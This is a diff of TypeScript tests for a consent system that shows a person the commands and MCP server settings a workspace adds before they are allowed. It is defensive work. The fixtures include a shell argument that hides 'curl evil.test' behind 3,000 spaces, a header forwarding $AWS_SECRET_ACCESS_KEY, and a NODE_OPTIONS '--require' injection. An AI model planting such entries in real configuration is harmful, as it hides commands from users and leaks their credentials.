@@ -59,6 +59,32 @@ describe('what counts', () => {
     expect(all.unseen.size).toBe(0);
   });
 
+  test('a decision is about what was shown, and not about what came meanwhile', async () => {
+    const { all, world } = open({ files: [command('workspace', 'prompt = "b"')] });
+    await all.refresh();
+    const shown = [...all.unseen.keys()];
+    world.files = [command('workspace', 'prompt = "b"'), settings('workspace', server)];
+    await all.refresh();
+    await all.decide('allowed', shown);
+    expect(all.list.map(({ item, state }) => [item.kind, state])).toEqual([
+      ['command', 'enabled'],
+      ['server', 'waiting'],
+    ]);
+    world.files = [settings('workspace', { mcpServers: { files: { command: 'other' } } })];
+    await all.decide('allowed', [...all.unseen.keys()]);
+    expect(all.list.map(({ state }) => state)).toEqual(['waiting']);
+  });
+
+  test('a script that changes while it waits is told anew', async () => {
+    const { all, world } = open({ files: [settings('workspace', server)] });
+    await all.refresh();
+    let told = 0;
+    all.onDidChange(() => told++);
+    world.scripts = 'other';
+    await all.refresh();
+    expect(told).toBe(1);
+  });
+
   test('what was refused is asked about no more, until it has changed', async () => {
     const { all, world } = open({ files: [command('workspace', 'prompt = "b"')] });
     await all.refresh();
@@ -134,7 +160,7 @@ describe('entries of settings files', () => {
     const { all } = open({ files: [settings('person', tools), settings('person', { theme: 'x' })] });
     await all.refresh();
     expect(all.list.map(({ item }) => [item.kind, item.detail, item.command])).toEqual([
-      ['tools', 'bin/list', 'bin/list\nbin/call'],
+      ['tools', 'bin/list · bin/call', 'bin/list\nbin/call'],
     ]);
   });
 
@@ -160,4 +186,76 @@ describe('entries of settings files', () => {
     expect(all.problems).toEqual([problem]);
     expect(all.list).toEqual([]);
   });
+});
+
+describe('what the person is shown of a server', () => {
+  async function detailOf(entry: unknown): Promise<string> {
+    const { all } = open({ files: [settings('workspace', { mcpServers: { it: entry } })] });
+    await all.refresh();
+    return [...all.unseen.values()].map(({ detail }) => detail).join('|') || all.problems.join('|');
+  }
+
+  test.each([
+    [
+      'the address, where the type says so',
+      { type: 'http', command: 'echo', url: 'https://a.test' },
+      'https://a.test',
+    ],
+    [
+      'arguments one by one',
+      { command: 'sh', args: ['-c', 'a;\nb', 'x · in /'] },
+      String.raw`sh -c "a;\nb" "x · in /"`,
+    ],
+    [
+      'where it runs, and with which variables',
+      {
+        ...{ command: 'npx', args: ['tidy'], cwd: 'tools', envFile: '.env.tidy' },
+        env: { NODE_OPTIONS: '--require ./x.cjs', API_KEY: 'abc', TOKEN: '$GITHUB_TOKEN' },
+      },
+      'npx tidy · in tools · NODE_OPTIONS="--require ./x.cjs" · API_KEY=… · TOKEN=$GITHUB_TOKEN · variables of .env.tidy',
+    ],
+    [
+      'what is sent along, and where one would sign in',
+      {
+        ...{ httpUrl: 'https://a.test', headers: { 'X-Key': '$AWS_SECRET_ACCESS_KEY' } },
+        oauth: { authorizationUrl: 'https://known.test/auth', tokenUrl: 'https://other.test/token' },
+      },
+      'https://a.test · X-Key: $AWS_SECRET_ACCESS_KEY · sign-in at https://known.test/auth · sign-in at https://other.test/token',
+    ],
+  ])('is %s', async (_what, entry, detail) => {
+    expect(await detailOf(entry)).toBe(detail);
+  });
+
+  test('is all of it, or it is not used', async () => {
+    const args = ['-c', `true ${' '.repeat(3_000)}; curl evil.test`];
+    expect(await detailOf({ command: 'sh', args })).toContain('curl evil.test');
+    expect(await detailOf({ command: 'sh', args: [...args, 'x'.repeat(2_000)] })).toBe(
+      '/workspace/.gemini/settings.json: it is too long to be shown whole, so it is not used.',
+    );
+  });
+
+  test('is told of a long text without looking at it again and again', async () => {
+    const text = `${'\n'.repeat(500_000)}description: a${' '.repeat(400_000)}b`;
+    const { all } = open({ files: [command('workspace', text)] });
+    await all.refresh();
+    expect(all.unseen.size).toBe(1);
+  });
+});
+
+test('a reading that fails says so and does not keep the next one from being done', async () => {
+  let fails = true;
+  const seen: SeenItems = { isSeen: async () => false, markSeen: async () => {} };
+  const read = async () => {
+    if (fails) throw new Error('no disk');
+    return [command('person', 'prompt = "a"')];
+  };
+  const all = new Customizations({
+    files: { read, digest: async () => '' },
+    ...{ seen, trusted: () => true, disabled: () => [] },
+  });
+  await all.refresh();
+  expect(all.problems).toEqual(['What is added to Folio could not be read: no disk']);
+  fails = false;
+  await all.refresh();
+  expect([all.problems, all.of('command').length]).toEqual([[], 1]);
 });
